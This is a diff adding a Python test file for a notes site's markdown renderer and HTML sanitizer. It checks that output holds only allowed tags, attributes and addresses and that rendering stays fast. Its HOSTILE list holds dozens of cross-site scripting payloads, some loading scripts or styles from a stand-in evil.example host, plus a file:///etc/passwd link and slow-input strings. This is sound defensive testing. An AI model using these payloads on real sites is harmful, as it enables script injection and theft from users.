@@ -1,0 +1,318 @@
+"""The one door from what people write to HTML: total, bounded, and without a way in for scripts."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from notes_site.markdown import clean_html, render_markdown, render_plain
+from notes_site.tests.test_names import ANY_TEXT
+
+TAGS = set(
+    "a abbr blockquote br code del em h3 h4 h5 h6 hr img input kbd label li ol p pre s section"  # noqa: SIM905 -- reads better
+    " strong sub sup table tbody td th thead tr ul".split()
+)
+ATTRIBUTES = {
+    "alt",
+    "checked",
+    "class",
+    "disabled",
+    "href",
+    "id",
+    "rel",
+    "src",
+    "start",
+    "title",
+    "type",
+}
+SAFE_ADDRESS = re.compile(r"(https?:|mailto:|#note-|[^:#]*$)", re.IGNORECASE)
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<math><a xlink:href=javascript:alert(1)>x",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=javascript:alert(1)><button>x</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<p style=background:url(javascript:alert(1))>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x onload=alert(1)>",
+    "</p></div></article><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example/)",
+    "[x](<javascript:alert(1)>)",
+    '[x](/a "onmouseover=alert(1)")',
+    "[x](/a 'x\" onmouseover=\"alert(1)')",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    '![x" onerror="alert(1)](/a.png)',
+    "![<img src=x onerror=alert(1)>](http://evil.example/x.png)",
+    "![x](http://evil.example/x.png)",
+    "![x](//evil.example/x.png)",
+    "`<script>alert(1)</script>`",
+    '```"><script>alert(1)</script>\nx\n```',
+    "``` js onload=alert(1)\nx\n```",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n|-|\n| [x](javascript:alert(1)) |",
+    "x[^1]\n\n[^1]: <script>alert(1)</script>",
+    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
+    "- [ ] <input onfocus=alert(1) autofocus>",
+    'http://x.example/"onmouseover=alert(1)',
+    "http://x.example/<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\u202e<script>alert(1)</script>",
+    "<\0script>alert(1)</script>",
+    "<a id=content name=body class='evil' href='#x'>",
+]
+
+
+class _Reader(HTMLParser):
+    """Collects the elements and attributes of a piece of HTML, as a browser would see them."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.tags, self.attributes = set(), set()
+        self.addresses, self.sources, self.ids = [], [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        for name, value in attrs:
+            self.attributes.add(name)
+            kept = {"href": self.addresses, "src": self.sources, "id": self.ids}.get(name, [])
+            kept.append(value)
+
+
+def _assert_harmless(html):
+    read = _Reader(html)
+    assert read.tags <= TAGS
+    assert read.attributes <= ATTRIBUTES
+    assert [address for address in read.addresses if not SAFE_ADDRESS.match(address)] == []
+    assert [source for source in read.sources if not re.match("/(?!/)", source)] == []
+    assert [name for name in read.ids if not name.startswith("note-")] == []
+    assert "<!--" not in html
+
+
+@pytest.mark.parametrize("source", HOSTILE)
+def test_hostile_markdown_is_harmless(source):
+    _assert_harmless(render_markdown(source))
+    _assert_harmless(render_markdown(f"# {source}\n\n> - {source}\n\n*{source}*"))
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_hostile_html_is_harmless(html):
+    _assert_harmless(clean_html(html))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_plain_text_stays_text(text):
+    assert _Reader(render_plain(text)).tags <= {"p", "br"}
+
+
+@given(ANY_TEXT)
+def test_any_text_gives_harmless_html(text):
+    _assert_harmless(render_markdown(text))
+
+
+@given(
+    st.lists(st.sampled_from([*HOSTILE, "*", "[", "](", "`", "\n", "> ", "- ", "|"]), max_size=8)
+)
+def test_hostile_pieces_put_together_are_harmless(pieces):
+    _assert_harmless(render_markdown("".join(pieces)))
+
+
+@pytest.mark.parametrize(
+    ("source", "html"),
+    [
+        pytest.param("*a* **b**", "<p><em>a</em> <strong>b</strong></p>", id="emphasis"),
+        pytest.param("~~a~~", "<p><s>a</s></p>", id="strikethrough"),
+        pytest.param("# A\n### B\n# C", "<h3>A</h3>\n<h4>B</h4>\n<h3>C</h3>", id="headings"),
+        pytest.param(
+            "[a](https://x.example/)",
+            '<p><a href="https://x.example/" rel="noopener nofollow">a</a></p>',
+            id="link",
+        ),
+        pytest.param(
+            "https://x.example/a_b_c",
+            '<p><a href="https://x.example/a_b_c" rel="noopener nofollow">'
+            "https://x.example/a_b_c</a></p>",
+            id="bare-link",
+        ),
+        pytest.param(
+            "![plan](https://x.example/p.png)",
+            '<p><a href="https://x.example/p.png" rel="noopener nofollow">plan</a></p>',
+            id="foreign-image-is-a-link",
+        ),
+        pytest.param(
+            "![plan](/p.png)", '<p><img src="/p.png" alt="plan"></p>', id="own-image-is-shown"
+        ),
+        pytest.param(
+            "|a|b|\n|:-:|-:|\n|1|2|",
+            '<table>\n<thead>\n<tr>\n<th class="align-center">a</th>\n'
+            '<th class="align-right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
+            '<td class="align-center">1</td>\n'
+            '<td class="align-right">2</td>\n</tr>\n</tbody>\n</table>',
+            id="table-aligned-by-class",
+        ),
+        pytest.param(
+            "```python\nx < 1\n```",
+            '<pre><code class="language-python">x &lt; 1\n</code></pre>',
+            id="code",
+        ),
+        pytest.param(
+            "- [ ] a\n- [x] *b*\n- c",
+            '<ul class="contains-task-list">\n<li class="task-list-item"><label>'
+            '<input class="task-list-item-checkbox" disabled="disabled" type="checkbox"> a'
+            '</label></li>\n<li class="task-list-item"><label>'
+            '<input class="task-list-item-checkbox" checked="checked" disabled="disabled" '
+            'type="checkbox"> <em>b</em></label></li>\n<li>c</li>\n</ul>',
+            id="tasks",
+        ),
+        pytest.param("- \\[x] a", "<ul>\n<li>[x] a</li>\n</ul>", id="escaped-task-is-text"),
+        pytest.param(
+            "- [x] a\n\n[x]: /b",
+            '<ul>\n<li><a href="/b" rel="noopener nofollow">x</a> a</li>\n</ul>',
+            id="link-is-no-task",
+        ),
+        pytest.param("[ ] a", "<p>[ ] a</p>", id="task-outside-a-list-is-text"),
+        pytest.param("<b>a</b>", "<p>&lt;b&gt;a&lt;/b&gt;</p>", id="html-is-text"),
+        pytest.param("\"a\" -- 'b'", "<p>“a” – ‘b’</p>", id="typography"),
+        pytest.param("日本語 *強調*", "<p>日本語 <em>強調</em></p>", id="japanese"),
+        pytest.param("", "", id="empty"),
+    ],
+)
+def test_markdown_becomes_html(source, html):
+    assert render_markdown(source).strip() == html
+
+
+def test_nested_lists_mark_only_the_list_with_tasks():
+    html = render_markdown("- a\n  - [ ] b\n- c\n")
+
+    assert (html.count("contains-task-list"), html.count("<ul>")) == (1, 1)
+
+
+def test_footnotes_lead_there_and_back():
+    html = render_markdown("a[^n]\n\n[^n]: b")
+
+    read = _Reader(html)
+    leads = [address.removeprefix("#") for address in read.addresses if address.startswith("#")]
+    assert sorted(leads) == sorted(read.ids)
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("a\nb", "<p>a<br>b</p>"),
+        ("a\n\n\n\nb", "<p>a</p><p>b</p>"),
+        ("<b>&", "<p>&lt;b&gt;&amp;</p>"),
+        ("", ""),
+    ],
+)
+def test_plain_text_becomes_paragraphs(text, html):
+    assert render_plain(text) == html
+
+
+@pytest.mark.parametrize(
+    "sign",
+    [
+        *"ab 1\n\t!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~é漢\u0300\u200d",
+        "[a](",
+        "![",
+        "[a][",
+        "*a **b ",
+        "__a ",
+        "http://a",
+        "://",
+        "http://a.b ",
+        "www.a.b ",
+        "a@b.c ",
+        "<a ",
+        "<!--",
+        "<![CDATA[",
+        "&amp;",
+        "> ",
+        ">a\n\n",
+        "- ",
+        "- [ ] a\n",
+        "1. a\n",
+        "|a|b|\n|-|-|\n",
+        "[^1]",
+        "[^1]: x\n",
+        "^[a] ",
+        "[a]: b\n",
+        "``` \n",
+        "`a ",
+        "\"'",
+        "a~~",
+    ],
+    ids=ascii,
+)
+def test_100_kb_of_one_thing_take_bounded_time(sign):
+    began = time.process_time()
+
+    render_markdown(sign * (100_000 // len(sign)))
+
+    assert time.process_time() - began < 8
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        pytest.param("http://a" * 45 + "b" * 190_000, id="many-links-in-a-long-word"),
+        pytest.param("://  " * 60 + "b " * 90_000, id="many-schemes-in-a-long-line"),
+        pytest.param("> " * 100_000, id="deep-quotes"),
+        pytest.param("- " * 100_000, id="deep-lists"),
+        pytest.param("".join("`" * n + "a" for n in range(1, 440)), id="growing-code-marks"),
+        pytest.param("**a*" * 40_000, id="uneven-emphasis"),
+        pytest.param("'\"a" * 600 + "x" * 190_000, id="quote-marks"),
+        pytest.param("|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n", id="wide-table"),
+    ],
+)
+def test_texts_made_to_be_slow_are_not(source):
+    began = time.process_time()
+
+    render_markdown(source)
+
+    assert time.process_time() - began < 8
+
+
+def test_an_ordinary_long_text_keeps_its_bare_links():
+    source = "See https://x.example/page for more on this, and read on.\n\n" * 2_000
+
+    assert render_markdown(source).count("<a ") == 2_000
